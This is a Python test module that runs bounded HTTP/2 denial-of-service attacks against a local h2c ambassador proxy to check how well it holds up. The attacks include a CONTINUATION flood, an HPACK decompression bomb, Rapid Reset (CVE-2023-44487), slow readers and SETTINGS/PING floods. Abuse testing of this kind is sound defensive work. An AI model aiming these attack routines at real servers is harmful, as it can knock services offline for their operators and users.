"""HTTP/2 attacks on an h2c port, each run as a process of its own so that the probes time the
ambassador and not the test's GIL (#17, #18). Every attack is bounded in time and in count,
paces itself a little (the point is the shape of the traffic, not taking the CPU from the
ambassador on a 2-core machine), and prints what it did as one JSON line.

    python -m tests.abuse.h2_attacks ATTACK PORT SECONDS
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
from collections.abc import Callable
from typing import Any

from hpack import Decoder, Encoder

from redline.sidecars.ambassador.h2frames import CANCEL, CONTINUATION, DATA, END_STREAM, PREFACE
from tests.abuse.grpc_upstream import BIG, BIG_RESPONSE_BYTES, ECHO
from tests.abuse.h2frames import (
    DEFAULT_WINDOW,
    MAX_WINDOW,
    SETTINGS_INITIAL_WINDOW_SIZE,
    Response,
    grpc_request,
    header_frames,
    literal_block,
    take_frames,
)
from tests.sidecars.ambassador.h2bytes import (
    frame,
    grpc_message,
    ping,
    rst,
    settings,
    window_update,
)

Stats = dict[str, Any]
HPACK_TABLE_ENTRY_OVERHEAD = 32  # RFC 7541 section 4.1


class Peer:
    """A client connection written frame by frame; reads only when the attack says so."""

    def __init__(self, port: int, first: bytes = PREFACE + settings(), *,
                 receive_buffer: int | None = None) -> None:
        self.sock = socket.socket()
        if receive_buffer:  # a small window in the kernel too: the client really reads nothing
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(2)
        self.sock.connect(("127.0.0.1", port))
        self.sock.sendall(first)
        self.buffer = bytearray()
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 2**31
        self.responses: dict[int, Response] = {}

    def send(self, data: bytes, deadline: float) -> bool:
        """False once the peer stopped taking bytes until `deadline`, or closed: either way
        the connection is done with (a frame may have been cut)."""
        self.sock.settimeout(max(0.01, min(1.0, deadline - time.monotonic())))
        try:
            self.sock.sendall(data)
        except OSError:  # TimeoutError included
            return False
        return True

    def drain(self) -> bool:
        """Read what has arrived, without waiting; False once the connection is closed."""
        self.sock.setblocking(False)
        try:
            while chunk := self.sock.recv(65536):
                self.buffer += chunk
            return False
        except BlockingIOError:
            return True
        except OSError:
            return False
        finally:
            self.sock.settimeout(2)

    def read_response(self, stream: int, deadline: float) -> Response:
        """Read until `stream` ended (or the connection, or `deadline`)."""
        response = self.responses.setdefault(stream, Response())
        while not response.ended and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(1 << 20)
            except TimeoutError:
                break
            except OSError:
                chunk = b""
            self.buffer += chunk
            for item in take_frames(self.buffer):
                if item.stream:
                    self.responses.setdefault(item.stream, Response()).feed(item, self.decoder)
            if not chunk:
                break
        return response

    def close(self) -> None:
        self.sock.close()


def _request(stream: int, path: str, message: bytes) -> bytes:
    """A well-formed unary gRPC request: the attacks are about framing, not the app."""
    return (header_frames(stream, literal_block(grpc_request(path)), end_stream=False)
            + frame(DATA, END_STREAM, stream, grpc_message(message)))


def garbage_after_preface(port: int, seconds: float) -> Stats:
    """The preface, then 16 KiB of random bytes, on one new connection after another."""
    deadline = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < deadline and connections < 200:
        peer = Peer(port, PREFACE + os.urandom(16_384))
        connections += 1
        peer.read_response(1, min(deadline, time.monotonic() + 0.5))
        peer.close()
        time.sleep(0.005)
    return {"connections": connections}


def continuation_flood(port: int, seconds: float) -> Stats:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames
    (each a complete 16,000-byte literal) for as long as the peer takes them."""
    deadline = time.monotonic() + seconds
    fragment = frame(CONTINUATION, 0, 1, literal_block([("x-flood", "f" * 16_000)])) * 4
    connections = sent = 0
    while time.monotonic() < deadline and connections < 20:
        peer = Peer(port)
        connections += 1
        alive = peer.send(header_frames(1, literal_block(grpc_request(ECHO)), end_stream=False,
                                        end_headers=False), deadline)
        while alive and time.monotonic() < deadline:
            alive = peer.send(fragment, deadline) and peer.drain()
            sent += len(fragment) if alive else 0
            time.sleep(0.001)
        peer.close()
    return {"connections": connections, "continuation_bytes": sent}


def huge_header_block(port: int, seconds: float) -> Stats:
    """A complete 1 MiB header block (HEADERS + 64 CONTINUATION), once per connection."""
    deadline = time.monotonic() + seconds
    block = literal_block([*grpc_request(ECHO),
                           *((f"x-huge-{i}", "h" * 1000) for i in range(1040))])
    answers: dict[str, int] = {}
    connections = 0
    while time.monotonic() < deadline and connections < 10:
        peer = Peer(port)
        connections += 1
        if peer.send(header_frames(1, block, end_stream=False)
                     + frame(DATA, END_STREAM, 1, grpc_message(b"")), deadline):
            response = peer.read_response(1, min(deadline, time.monotonic() + 1))
            _tally(answers, response)
        peer.close()
    return {"connections": connections, "block_bytes": len(block), "answers": answers}


def hpack_bomb(port: int, seconds: float) -> Stats:
    """One 4,038-byte dynamic table entry, then streams whose blocks reference it 16,000 times
    (16 KB on the wire, 64 MB decoded each)."""
    deadline = time.monotonic() + seconds
    value = "a" * 4000
    insert = Encoder().encode([("x-bomb", value)], huffman=False)  # incremental indexing: 62
    references = bytes((0x80 | 62,)) * 16_000
    request = literal_block(grpc_request(ECHO))
    bombs = connections = 0
    answers: dict[str, int] = {}
    while time.monotonic() < deadline and connections < 50:
        peer = Peer(port)
        connections += 1
        alive = peer.send(header_frames(1, request + insert, end_stream=False)
                          + frame(DATA, END_STREAM, 1, grpc_message(b"")), deadline)
        stream = 3
        while alive and time.monotonic() < deadline and stream < 100:
            alive = peer.send(header_frames(stream, request + references, end_stream=False)
                              + frame(DATA, END_STREAM, stream, grpc_message(b"")), deadline)
            bombs += alive
            stream += 2
            alive = alive and peer.drain()
            time.sleep(0.002)
        peer.read_response(stream - 2, min(deadline, time.monotonic() + 0.2))
        for response in peer.responses.values():
            _tally(answers, response)
        peer.close()
    entry = len("x-bomb") + len(value) + HPACK_TABLE_ENTRY_OVERHEAD
    return {"bombs": bombs, "connections": connections,
            "decoded_bytes_each": len(references) * entry, "answers": answers}


def rapid_reset(port: int, seconds: float, streams: int = 10_000) -> Stats:
    """Streams opened and reset at once (CVE-2023-44487), 100 per write, up to `streams`."""
    deadline = time.monotonic() + seconds
    sent = connections = 0
    while sent < streams and time.monotonic() < deadline and connections < 100:
        peer, encoder, stream = Peer(port), Encoder(), 1
        connections += 1
        alive = True
        while alive and sent < streams and time.monotonic() < deadline and stream < 2**31 - 200:
            batch = b"".join(
                header_frames(sid, encoder.encode(grpc_request(ECHO)), end_stream=False)
                + rst(sid, CANCEL) for sid in range(stream, stream + 200, 2))
            alive = peer.send(batch, deadline)
            sent += 100 if alive else 0
            stream += 200
            alive = alive and peer.drain()
            time.sleep(0.001)
        peer.close()
    return {"streams": sent, "connections": connections}


def slow_reader(port: int, seconds: float, connections: int = 4) -> Stats:
    """Clients that ask for a 10 MiB response with windows wide open, never read it for
    `seconds`, then read it all (bounded): it must arrive whole."""
    opening = (PREFACE + settings((SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW))
               + window_update(0, MAX_WINDOW - DEFAULT_WINDOW) + _request(1, BIG, b""))
    peers = [Peer(port, opening, receive_buffer=4096) for _ in range(connections)]
    time.sleep(seconds)
    deadline = time.monotonic() + 20
    received = []
    for peer in peers:
        response = peer.read_response(1, deadline)
        received.append({"bytes": len(response.body), "grpc_status": response.header(
            "grpc-status")})
        peer.close()
    return {"received": received, "expected_bytes": len(grpc_message(b"b" *
                                                                     BIG_RESPONSE_BYTES))}


def one_byte_at_a_time(port: int, seconds: float, connections: int = 20) -> Stats:
    """Whole gRPC requests written one byte per write, every 10 ms, on several connections;
    each must then be answered, byte for byte."""
    message = b"one byte at a time"
    request = PREFACE + settings() + _request(1, ECHO, message)
    peers = [Peer(port, b"") for _ in range(connections)]
    interval = min(0.01, seconds / len(request))
    for offset in range(len(request)):
        for peer in peers:
            peer.sock.sendall(request[offset:offset + 1])
        time.sleep(interval)
    deadline = time.monotonic() + 5
    answered = 0
    for peer in peers:
        response = peer.read_response(1, deadline)
        answered += (bytes(response.body) == grpc_message(message)
                     and response.header("grpc-status") == "0")
        peer.close()
    return {"connections": connections, "answered": answered, "request_bytes": len(request)}


def settings_ping_flood(port: int, seconds: float) -> Stats:
    """SETTINGS and PING frames, 100 of each per write, never reading their ACKs."""
    deadline = time.monotonic() + seconds
    batch = (settings() + ping()) * 100
    frames = connections = 0
    while time.monotonic() < deadline and connections < 50:
        peer = Peer(port)
        connections += 1
        while time.monotonic() < deadline and peer.send(batch, deadline):
            frames += 200
            time.sleep(0.001)
        peer.close()
    return {"frames": frames, "connections": connections}


def _tally(answers: dict[str, int], response: Response) -> None:
    """How the app (or the ambassador) answered an attack's stream, for the report."""
    key = ("reset" if response.reset else f"grpc-status {response.header('grpc-status')}"
           if response.ended else "no answer")
    answers[key] = answers.get(key, 0) + 1


ATTACKS: dict[str, Callable[[int, float], Stats]] = {
    attack.__name__: attack for attack in (
        garbage_after_preface, continuation_flood, huge_header_block, hpack_bomb, rapid_reset,
        slow_reader, one_byte_at_a_time, settings_ping_flood)}


if __name__ == "__main__":
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    print(json.dumps(ATTACKS[name](port, seconds)), flush=True)
